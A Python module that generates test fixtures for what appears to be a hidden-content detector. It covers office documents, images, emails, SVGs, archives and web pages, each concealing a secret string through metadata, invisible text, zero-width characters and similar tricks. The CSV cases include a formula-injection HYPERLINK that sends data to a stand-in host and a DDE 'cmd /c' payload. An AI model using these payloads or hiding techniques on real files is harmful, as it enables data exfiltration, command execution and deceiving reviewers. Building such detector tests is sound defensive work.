# SPDX-License-Identifier: AGPL-3.0-or-later
"""Second set: open documents, tables, pictures, messages, drawings, archives and built pages."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from email.message import EmailMessage
from xml.sax.saxutils import escape

from PIL import Image, ImageDraw, ImageFont, PngImagePlugin

from .second_covers import jpeg_of
from .second_office import BOOKS, DOCUMENTS, exif
from .second_writer import PROSE, Register

SLOTS = Register()
OASIS = "urn:oasis:names:tc:opendocument:xmlns"
SPACES = " ".join(
    f'xmlns:{short}="{OASIS}:{name}:1.0"' for short, name in (
        ("office", "office"), ("text", "text"), ("table", "table"), ("style", "style"), ("draw", "drawing"), ("meta", "meta"),
        ("fo", "xsl-fo-compatible"), ("svg", "svg-compatible"), ("script", "script"), ("presentation", "presentation"),
    )
) + ' xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:dc="http://purl.org/dc/elements/1.1/"'  # fmt: skip
MIME = "application/vnd.oasis.opendocument."


def open_document(kind: str, body: str, styles: str = "", meta: str = "", parts: dict[str, bytes] | None = None) -> bytes:
    """An OpenDocument package; `body` stands inside office:text, office:spreadsheet or office:presentation."""
    inner = {"text": "text", "spreadsheet": "spreadsheet", "presentation": "presentation"}[kind]
    content = (
        f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {SPACES} office:version="1.2"><office:automatic-styles>{styles}'
        f"</office:automatic-styles><office:body><office:{inner}>{body}</office:{inner}></office:body></office:document-content>"
    )
    held: dict[str, bytes] = {"content.xml": content.encode(), **(parts or {})}
    if meta:
        held["meta.xml"] = f'<office:document-meta {SPACES} office:version="1.2"><office:meta>{meta}</office:meta></office:document-meta>'.encode()
    rows = "".join(f'<manifest:file-entry manifest:full-path="{name}" manifest:media-type="text/xml"/>' for name in held)
    manifest = (
        f'<manifest:manifest xmlns:manifest="{OASIS}:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" '
        f'manifest:media-type="{MIME}{kind}"/>{rows}</manifest:manifest>'
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as bundle:
        bundle.writestr("mimetype", MIME + kind)
        for name, data in held.items():
            bundle.writestr(name, data, zipfile.ZIP_DEFLATED)
        bundle.writestr("META-INF/manifest.xml", manifest)
    return out.getvalue()


def odt(more: str, styles: str = "", **how: object) -> bytes:
    return open_document("text", "".join(f"<text:p>{line}</text:p>" for line in PROSE) + more, styles, **how)


def look(name: str, properties: str, family: str = "text") -> str:
    return f'<style:style style:name="{name}" style:family="{family}"><style:{family}-properties {properties}/></style:style>'


def line(*cells: str, more: str = "") -> str:
    return f"<table:table-row {more}>" + "".join(
        f'<table:table-cell office:value-type="string"><text:p>{escape(c)}</text:p></table:table-cell>' for c in cells
    ) + "</table:table-row>"  # fmt: skip


def ods(rows: str, styles: str = "", before: str = "", after: str = "", columns: str = "", table: str = "", **how: object) -> bytes:
    shown = line("Ward", "Calls") + "".join(line(f"Ward {n}", str(40 + n)) for n in range(1, 7))
    body = f'{before}<table:table table:name="Figures" {table}>{columns}{shown}{rows}</table:table>{after}'
    return open_document("spreadsheet", body, styles, **how)


TEXTS: dict[str, tuple[str, str, Callable[[str], bytes]]] = {
    "deleted words": ("TRACKED", "odt", lambda s: odt(
        f'<text:tracked-changes><text:changed-region text:id="c1"><text:deletion><office:change-info><dc:creator>x</dc:creator></office:change-info>'
        f'<text:p>{escape(s)}</text:p></text:deletion></text:changed-region></text:tracked-changes><text:p>of <text:change text:change-id="c1"/></text:p>')),
    "comment": ("COMMENT", "odt", lambda s: odt(f"<text:p>x<office:annotation><dc:creator>y</dc:creator><text:p>{escape(s)}</text:p></office:annotation></text:p>")),
    "hidden words": ("HIDDEN-TEXT", "odt", lambda s: odt(f'<text:p><text:span text:style-name="H">{escape(s)}</text:span></text:p>', look("H", 'text:display="none"'))),
    "hidden field": ("HIDDEN-TEXT", "odt", lambda s: odt(f'<text:p><text:hidden-text text:condition="ooow:1" text:string-value="{escape(s)}" text:is-hidden="true"/></text:p>')),
    "hidden section": ("HIDDEN-TEXT", "odt", lambda s: odt(f'<text:section text:name="S" text:display="none"><text:p>{escape(s)}</text:p></text:section>')),
    "hidden paragraph": ("HIDDEN-TEXT", "odt", lambda s: odt(f'<text:p><text:hidden-paragraph text:is-hidden="true" text:condition="ooow:1"/>{escape(s)}</text:p>')),
    "white words": ("OFFICE-INVISIBLE", "odt", lambda s: odt(f'<text:p><text:span text:style-name="W">{escape(s)}</text:span></text:p>', look("W", 'fo:color="#ffffff"'))),
    "transparent words": ("OFFICE-INVISIBLE HIDDEN-TEXT", "odt", lambda s: odt(
        f'<text:p><text:span text:style-name="W">{escape(s)}</text:span></text:p>',
        look("W", 'xmlns:loext="urn:org:documentfoundation:names:experimental:office:xmlns:loext:1.0" fo:color="#000000" loext:opacity="0%"'))),
    "black words on black": ("OFFICE-INVISIBLE", "odt", lambda s: odt(f'<text:p><text:span text:style-name="W">{escape(s)}</text:span></text:p>', look("W", 'fo:background-color="#000000" fo:color="#000000"'))),
    "author": ("OFFICE-META", "odt", lambda s: odt("", meta=f"<dc:creator>{escape(s)}</dc:creator><meta:initial-creator>{escape(s)}</meta:initial-creator>")),
    "own property": ("OFFICE-META", "odt", lambda s: odt("", meta=f'<meta:user-defined meta:name="Case">{escape(s)}</meta:user-defined>')),
    "small picture": ("OFFICE-THUMBNAIL", "odt", lambda s: odt("", parts={"Thumbnails/thumbnail.png": png(picture(s))})),
    "left-over part": ("OFFICE-ORPHAN", "odt", lambda s: odt("", parts={"Pictures/old.svm": s.encode() * 9})),
    "mail link": ("OFFICE-LINK", "odt", lambda s: odt(f'<text:p><text:a xlink:href="mailto:{escape(s).replace(" ", ".")}@council.example">clerk</text:a></text:p>')),
    "variable": ("OFFICE-META HIDDEN-TEXT BOOKMARK OFFICE-ORPHAN", "odt", lambda s: odt(
        f'<text:user-field-decls><text:user-field-decl text:name="v" office:value-type="string" office:string-value="{escape(s)}"/></text:user-field-decls>')),
    "hidden sheet": ("HIDDEN-SHEET", "ods", lambda s: ods("", look("T", 'table:display="false"', "table"), after=f'<table:table table:name="S" table:style-name="T">{line(s)}</table:table>')),
    "hidden row": ("HIDDEN-CELLS", "ods", lambda s: ods(line(s, more='table:visibility="collapse"'))),
    "filtered row": ("HIDDEN-CELLS", "ods", lambda s: ods(line(s, more='table:visibility="filter"'))),
    "hidden column": ("HIDDEN-CELLS", "ods", lambda s: ods(line("x", "1", s), columns='<table:table-column table:number-columns-repeated="2"/><table:table-column table:visibility="collapse"/>')),
    "covered cell": ("HIDDEN-CELLS", "ods", lambda s: ods(
        '<table:table-row><table:table-cell table:number-columns-spanned="2" office:value-type="string"><text:p>Sum</text:p></table:table-cell>'
        f'<table:covered-table-cell office:value-type="string"><text:p>{escape(s)}</text:p></table:covered-table-cell></table:table-row>')),
    "comment on a cell": ("SHEET-COMMENT", "ods", lambda s: ods(
        f'<table:table-row><table:table-cell office:value-type="string"><office:annotation><text:p>{escape(s)}</text:p></office:annotation><text:p>1</text:p></table:table-cell></table:table-row>')),
    "white cell": ("INVISIBLE-CELLS", "ods", lambda s: ods(
        f'<table:table-row><table:table-cell table:style-name="W" office:value-type="string"><text:p>{escape(s)}</text:p></table:table-cell></table:table-row>',
        '<style:style style:name="W" style:family="table-cell"><style:text-properties fo:color="#ffffff"/></style:style>')),
    "changes": ("TRACKED", "ods", lambda s: ods("", before=
        '<table:tracked-changes><table:cell-content-change table:id="c1"><table:cell-address table:column="0" table:row="0" table:table="0"/>'
        f'<office:change-info><dc:creator>a</dc:creator></office:change-info><table:previous><table:change-track-table-cell office:value-type="string"><text:p>{escape(s)}</text:p>'
        '</table:change-track-table-cell></table:previous></table:cell-content-change></table:tracked-changes>')),
    "message of a rule": ("VALIDATION", "ods", lambda s: ods("", before=
        '<table:content-validations><table:content-validation table:name="v" table:condition="of:cell-content-is-in-list(&quot;none&quot;;&quot;'
        f'{escape(s)}&quot;)"/></table:content-validations>')),
}  # fmt: skip


def picture(text: str, mode: str = "RGB", size: tuple[int, int] = (320, 60)) -> Image.Image:
    shown = Image.new("RGB", size, "white")
    ImageDraw.Draw(shown).text((6, 14), text, fill=(20, 20, 20), font=ImageFont.load_default(26))
    return shown.convert(mode)


def png(shown: Image.Image, **how: object) -> bytes:
    out = io.BytesIO()
    shown.save(out, "PNG", **how)
    return out.getvalue()


def chunk(data: bytes, kind: bytes, body: bytes, before: bytes = b"IDAT") -> bytes:
    """`data`, a PNG, with one more chunk."""
    place = data.index(before) - 4
    whole = struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    return data[:place] + whole + data[place:]


def saved(shown: Image.Image, kind: str, **how: object) -> bytes:
    out = io.BytesIO()
    shown.save(out, kind, **how)
    return out.getvalue()


def alpha(secret: str) -> Image.Image:
    shown = picture(secret, "RGBA")
    shown.paste((0, 0, 0, 0), (0, 0, 0, 0))
    shown.putalpha(Image.new("L", shown.size, 0))
    return shown


def text_chunk(secret: str, key: str) -> bytes:
    told = PngImagePlugin.PngInfo()
    told.add_itxt(key, secret, zip=True)
    return png(picture("Town map"), pnginfo=told)


def gps(secret: str) -> bytes:
    held = Image.Exif()
    held.get_ifd(0x8825).update({1: "N", 2: (52.0, 12.0, 3.0), 3: "W", 4: (0.0, 7.0, 9.0)})
    held.get_ifd(0x8769)[0x9286] = b"ASCII\0\0\0" + secret.encode()
    return saved(picture("Town map"), "JPEG", exif=held)


def with_app(data: bytes, marker: int, body: bytes) -> bytes:
    return data[:2] + struct.pack(">BBH", 0xFF, marker, len(body) + 2) + body + data[2:]


XMP = b"http://ns.adobe.com/xap/1.0/\0<x:xmpmeta xmlns:x='adobe:ns:meta/'>%b</x:xmpmeta>"
IPTC = b"Photoshop 3.0\x008BIM\x04\x04\0\0%b"
PICTURES: dict[str, tuple[str, str, Callable[[str], bytes]]] = {
    "artist": ("IMAGE-META", "jpg", exif),
    "place and remark": ("IMAGE-META", "jpg", gps),
    "comment": ("IMAGE-META", "jpg", lambda s: jpeg_of("Town map", comment=s.encode())),
    "XMP": ("IMAGE-META", "jpg", lambda s: with_app(jpeg_of("Town map"), 0xE1, XMP % s.encode())),
    "caption": ("IMAGE-META", "jpg", lambda s: with_app(jpeg_of("Town map"), 0xED, IPTC % (struct.pack(">I", len(s) + 5) + b"\x1c\x02\x78" + struct.pack(">H", len(s)) + s.encode()))),
    "second picture after the first": ("TRAILING-DATA IMAGE-EXTRA-FRAME", "jpg", lambda s: jpeg_of("Town map") + jpeg_of(s)),
    "text chunk": ("IMAGE-META", "png", lambda s: text_chunk(s, "Author")),
    "own chunk": ("IMAGE-META", "png", lambda s: chunk(png(picture("Town map")), b"prVt", s.encode())),
    "picture under no alpha": ("IMAGE-ALPHA", "png", lambda s: png(alpha(s))),
    "colours of no alpha": ("IMAGE-ALPHA", "webp", lambda s: saved(alpha(s), "WEBP", lossless=True, exact=True)),
    "rest of a larger picture": ("TRAILING-DATA", "png", lambda s: png(picture("Town map")) + png(picture(s))[60:]),
    "second page": ("IMAGE-EXTRA-FRAME", "tif", lambda s: saved(picture("Town map"), "TIFF", save_all=True, append_images=[picture(s)])),
    "description": ("IMAGE-META", "tif", lambda s: saved(picture("Town map"), "TIFF", description=s)),
    "second frame": ("IMAGE-EXTRA-FRAME", "gif", lambda s: saved(picture("Town map", "P"), "GIF", save_all=True, append_images=[picture(s, "P")], duration=0)),
    "comment of a GIF": ("IMAGE-META", "gif", lambda s: saved(picture("Town map", "P"), "GIF", comment=s.encode())),
    "second frame of a PNG": ("IMAGE-EXTRA-FRAME", "png", lambda s: png(picture("Town map"), save_all=True, append_images=[picture(s)], default_image=True)),
    "EXIF of a WebP": ("IMAGE-META", "webp", lambda s: saved(picture("Town map"), "WEBP", xmp=s.encode())),
}  # fmt: skip


def message(secret: str, headers: dict[str, str], text: str = "", html: str = "", attach: bytes = b"") -> bytes:
    held = EmailMessage()
    held["Subject"], held["From"], held["To"], held["Date"] = "Street works", "clerk@council.example", "press@council.example", "Mon, 6 May 2024 09:00:00 +0000"
    for key, value in headers.items():
        held[key] = value
    held.set_content("\n".join(PROSE) + text)
    if html:
        held.add_alternative(html, subtype="html")
    if attach:
        held.add_attachment(attach, maintype="application", subtype="octet-stream", filename="x.bin")
    return held.as_bytes()


def plain(secret: str) -> str:
    return secret.encode("ascii", "ignore").decode().strip().replace(" ", ".")


SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="60"><rect width="20" height="20" fill="#135"/>{}</svg>'
PAGE = "<!doctype html><html lang='en'><head><title>Minutes</title></head><body><main><h1>Minutes</h1><p>The committee met.</p>{}</main></body></html>"
MIXED: dict[str, tuple[str, str, Callable[[str], bytes]]] = {
    "formula": ("CSV-FORMULA", "csv", lambda s: f'Ward,Calls\r\nNorth,4\r\nSouth,"=HYPERLINK(""http://x.example/{plain(s)}"",""go"")"\r\n'.encode()),
    "command": ("CSV-FORMULA", "csv", lambda s: f"Ward;Calls\nNorth;4\nSouth;@SUM(1)*cmd|'/c {plain(s)}'!A0\n".encode()),
    "cells beyond": ("CSV-RAGGED", "csv", lambda s: f"Ward,Calls\nNorth,4\nSouth,5,,,{s}\n".encode()),
    "blind copy": ("EMAIL-HEADERS", "eml", lambda s: message(s, {"Bcc": f"{plain(s)}@council.example"})),
    "sending machine": ("EMAIL-HEADERS", "eml", lambda s: message(s, {"X-Originating-User": plain(s), "Received": f"from {plain(s)}-pc.council.example by mx.council.example; Mon, 6 May 2024 09:00:00 +0000"})),
    "attached file": ("HIDDEN-CELLS", "eml", lambda s: message(s, {}, attach=BOOKS["filtered row"][1](s))),
    "other words in HTML": ("EMAIL-PARTS", "eml", lambda s: message(s, {}, html=f"<p>{'</p><p>'.join(PROSE)}</p><p style='display:none'>{s}</p>")),
    "hidden group": ("SVG-HIDDEN", "svg", lambda s: SVG.format(f'<g display="none"><text x="9" y="40">{escape(s)}</text></g>').encode()),
    "hidden by style": ("SVG-HIDDEN", "svg", lambda s: SVG.format(f'<style>.q{{visibility:hidden}}</style><text class="q" x="9" y="40">{escape(s)}</text>').encode()),
    "words under a box": ("SVG-HIDDEN", "svg", lambda s: SVG.format(f'<text x="30" y="40">{escape(s)}</text><rect x="25" y="20" width="250" height="30"/>').encode()),
    "note in a drawing": ("SVG-HIDDEN IMAGE-META", "svg", lambda s: SVG.format(f"<!-- drawn by {escape(s)} -->").encode()),
    "description of a drawing": ("SVG-HIDDEN IMAGE-META", "svg", lambda s: SVG.format(f"<metadata>{escape(s)}</metadata>").encode()),
    "outside a drawing": ("SVG-HIDDEN", "svg", lambda s: SVG.format(f'<text x="-900" y="40">{escape(s)}</text>').encode()),
    "white words in a drawing": ("SVG-HIDDEN", "svg", lambda s: SVG.format(f'<rect y="20" width="300" height="40" fill="#fff"/><text x="9" y="40" style="fill:rgb(255,255,255)">{escape(s)}</text>').encode()),
    "symbol not used": ("SVG-HIDDEN IMAGE-META", "svg", lambda s: SVG.format(f'<defs><symbol id="a"><text>{escape(s)}</text></symbol></defs>').encode()),
    "workbook in an archive": ("HIDDEN-CELLS", "zip", lambda s: zipped({"figures.xlsx": BOOKS["hidden row"][1](s)})),
    "document in an archive": ("TRACKED", "zip", lambda s: zipped({"a/letter.docx": DOCUMENTS["deleted words"][1](s)})),
    "comment of an archive": ("ARCHIVE-MEMBER", "zip", lambda s: zipped({"a.csv": b"Ward,Calls\nNorth,4\n"}, s)),
    "comment in a page": ("PAGE-COMMENT", "html", lambda s: PAGE.format(f"<!-- ask {escape(s)} -->").encode()),
    "hidden part of a page": ("PAGE-HIDDEN", "html", lambda s: PAGE.format(f"<p hidden>{escape(s)}</p>").encode()),
    "part that is not displayed": ("PAGE-HIDDEN", "html", lambda s: PAGE.format(f"<p style='DISPLAY : none'>{escape(s)}</p>").encode()),
    "part moved away": ("PAGE-HIDDEN", "html", lambda s: PAGE.format(f"<p style='position:absolute;left:-9999px'>{escape(s)}</p>").encode()),
    "white part of a page": ("PAGE-HIDDEN", "html", lambda s: PAGE.format(f"<p style='color:#fff;background:#fff'>{escape(s)}</p>").encode()),
    "clipped part": ("PAGE-HIDDEN", "html", lambda s: PAGE.format(f"<p style='position:absolute;clip:rect(0 0 0 0)'>{escape(s)}</p>").encode()),
    "small part": ("PAGE-HIDDEN", "html", lambda s: PAGE.format(f"<p style='height:0;overflow:hidden'>{escape(s)}</p>").encode()),
    "tag characters": ("PAGE-HIDDEN", "html", lambda s: PAGE.format("<p>Agreed" + "".join(chr(0xE0000 + ord(c)) for c in plain(s)) + ".</p>").encode()),
    "zero-width bits": ("PAGE-HIDDEN", "html", lambda s: PAGE.format("<p>Agreed" + "".join("\u200b\u200c"[int(b)] for c in plain(s) for b in f"{ord(c):08b}") + ".</p>").encode()),
    "template of a page": ("PAGE-HIDDEN", "html", lambda s: PAGE.format(f"<template><p>{escape(s)}</p></template>").encode()),
    "old kind of workbook": ("DAMAGED", "xls", lambda s: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + s.encode("utf-16-le")),
    "half a file": ("DAMAGED", "xlsx", lambda s: BOOKS["hidden row"][1](s)[:-40]),
}  # fmt: skip


def zipped(members: dict[str, bytes], comment: str = "") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bundle:
        for name, data in members.items():
            bundle.writestr(zipfile.ZipInfo(name), data)
        bundle.comment = comment.encode()
    return out.getvalue()


HARD = {"variable", "transparent words", "own chunk", "message of a rule", "hidden field", "white part of a page", "clipped part", "second frame of a PNG"}
for group in (TEXTS, PICTURES, MIXED):
    for title, (expect, ending, build) in group.items():
        SLOTS.add(
            f"{ending}, {title}", lambda secret, dice, build=build: build(secret), expect, ending,
            hard=title in HARD,
        )  # fmt: skip
